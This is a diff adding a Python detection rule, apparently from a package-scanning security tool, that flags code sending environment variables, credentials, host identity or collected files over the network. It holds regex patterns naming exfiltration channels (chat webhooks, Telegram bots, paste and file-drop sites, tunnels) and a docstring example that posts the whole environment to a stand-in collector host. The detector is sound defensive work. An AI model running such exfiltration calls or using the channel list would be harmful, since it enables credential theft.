@@ -1,0 +1,169 @@
+"""PKG002: environment variables, credentials or host identity flow into a network request.
+
+The checks: a network call (``requests.*``, ``urllib``, sockets, DNS look-ups) whose arguments
+carry secrets or the contents of a private store; a method of a network client (``post``,
+``send``...) handed secrets; and, in code only run when called, files opened and posted by a
+module that walks the disk and names a paste, bot or webhook channel.
+"""
+
+from __future__ import annotations
+
+import ast
+import re
+
+from outwork.analyzers.packages.facts import CallSite, Labels
+from outwork.analyzers.packages.rules.base import BehaviourRule, Variant
+from outwork.analyzers.packages.signals import Context, clip
+from outwork.core.rules import Confidence, Layer, Severity
+
+C, H, M, L, N = (
+    Severity.CRITICAL,
+    Severity.HIGH,
+    Severity.MEDIUM,
+    Severity.LOW,
+    Severity.INFO,
+)
+
+#: Methods of a network client that send what they are given.
+SEND_ATTRS = frozenset({"post", "put", "send", "sendall", "sendto", "request", "urlopen"})
+#: Channels stealers post to: chat webhooks and bots, paste and drop sites, tunnels.
+EXFIL_CHANNEL = re.compile(
+    r"discord(app)?\.com/api/webhooks|api\.telegram\.org/bot|pastebin\.com|transfer\.sh|"
+    r"ngrok|webhook\.site|pipedream\.net|gofile\.io|anonfiles",
+    re.IGNORECASE,
+)
+#: Collecting files to send: walking directories, capturing the screen.
+COLLECTS_FILES = re.compile(
+    r"\bos\.walk\(|\bos\.listdir\(|\bos\.scandir\(|\bglob\.glob\(|\.rglob\(|"
+    r"ImageGrab\.grab\(|\.screenshot\("
+)
+
+
+class SecretExfiltration(BehaviourRule):
+    """Environment variables, credentials or host identity flow into a network request.
+
+    ## What it finds
+    A data flow, inside one function or module, from a secret source (`os.environ`, `os.getenv`,
+    `getpass.getuser`, `socket.gethostname`, reads of credential files) to a network sink
+    (`requests.*`, `urllib`, `http.client`, sockets, DNS look-ups, webhooks). Variables that name
+    the user or the machine (`USERNAME`, `COMPUTERNAME`) count as host identity, and the contents
+    of private keys, shell history, browser profiles or wallets sent anywhere are theft even in
+    code that only runs when called.
+
+    ## Why it matters
+    Stealing CI tokens, cloud keys and developer credentials is the main goal of most poisoned
+    packages; an install-time flow from the environment to the network is that theft.
+
+    ## Example
+    ```python
+    requests.post("https://collector.example", data=dict(os.environ))
+    ```
+
+    ## Remediation
+    Do not install the package; rotate every credential present in the environments where it ran.
+
+    ## References
+    - MITRE ATT&CK T1552.001 (Credentials In Files), T1041 (Exfiltration Over C2 Channel)
+    - CWE-200: Exposure of Sensitive Information to an Unauthorized Actor
+    """
+
+    code = "PKG002"
+    name = "secret-exfiltration"
+    layer = Layer.PKG
+    severity = Severity.CRITICAL
+    confidence = Confidence.HIGH
+    cwe = (200, 506)
+    attack = ("T1041", "T1552.001")
+    inline_suppressible = False
+
+    #: install, import, reached from import, only when called
+    SECRET = Variant("sends a configured secret", C, C, M, N)
+    HOST = Variant("sends host identity", C, C, C, N)
+    DUMP = Variant(
+        "sends the whole environment, a private store, or to a paste, webhook or raw address",
+        C,
+        C,
+        C,
+        H,
+    )
+    UPLOAD = Variant(
+        "uploads collected files to a webhook, bot or paste channel (from code only run when"
+        " called; where it runs earlier, the call is judged by what it sends and where)",
+        N,
+        N,
+        N,
+        H,
+    )
+
+
+def client_sends(call: CallSite) -> None:
+    """``client.post(...)``, ``sock.send(...)``: a method of a network client (a value labelled
+    ``client``) handed secrets."""
+    func = call.node.func
+    if not isinstance(func, ast.Attribute):
+        return
+    labels = call.arguments_labels()
+    client = "client" in call.labels(func.value)
+    if "secret" not in labels or not client:
+        return
+    if labels & {"dump", "store"}:
+        variant = SecretExfiltration.DUMP
+    elif "host" in labels:
+        variant = SecretExfiltration.HOST
+    else:
+        variant = SecretExfiltration.SECRET
+    call.emit(
+        variant,
+        f"sends secrets or host identity over the network {call.ctx.label}",
+        clip(ast.unparse(call.node)),
+        exfiltrates=True,
+    )
+
+
+def sends(call: CallSite, labels: Labels, suspicious: bool) -> bool:
+    """A network call whose arguments carry secrets (``labels``, already cleared of what a
+    client constructor or a look-up of the host's own name sends) or go to a paste, webhook or
+    raw address (``suspicious``). True when it raised a finding."""
+    name, label = call.name, call.ctx.label
+    if "store" in labels:
+        # a private key, shell history, browser or wallet store read and sent: theft
+        call.emit(
+            SecretExfiltration.DUMP,
+            f"{name}() sends the contents of a private key, history, browser or wallet store"
+            f" {label}",
+            clip(ast.unparse(call.node)),
+            exfiltrates=True,
+        )
+        return True
+    if "secret" in labels and (call.ctx is not Context.RUNTIME or "dump" in labels or suspicious):
+        # a function reached (as far as names tell) from the top level that sends one
+        # configured variable is how SDKs authenticate; dumps and host identity are not
+        if "dump" in labels or suspicious:
+            variant = SecretExfiltration.DUMP
+        elif "host" in labels:
+            variant = SecretExfiltration.HOST
+        else:
+            variant = SecretExfiltration.SECRET
+        call.emit(
+            variant,
+            f"{name}() sends secrets or host identity {label}",
+            clip(ast.unparse(call.node)),
+            exfiltrates=True,
+        )
+        return True
+    if call.ctx is Context.RUNTIME and "file" in labels and uploads_collected_files(call):
+        # a function that walks the disk or grabs the screen and posts the files it opens
+        # to a webhook, chat bot or paste channel is a stealer whether or not it is called
+        call.emit(
+            SecretExfiltration.UPLOAD,
+            f"{name}() uploads collected files to a webhook, bot or paste channel {label}",
+            clip(ast.unparse(call.node)),
+            exfiltrates=True,
+        )
+        return True
+    return False
+
+
+def uploads_collected_files(call: CallSite) -> bool:
+    """Whether the module names an exfiltration channel and collects files to send."""
+    return call.facts.module_matches(COLLECTS_FILES) and call.facts.module_matches(EXFIL_CHANNEL)
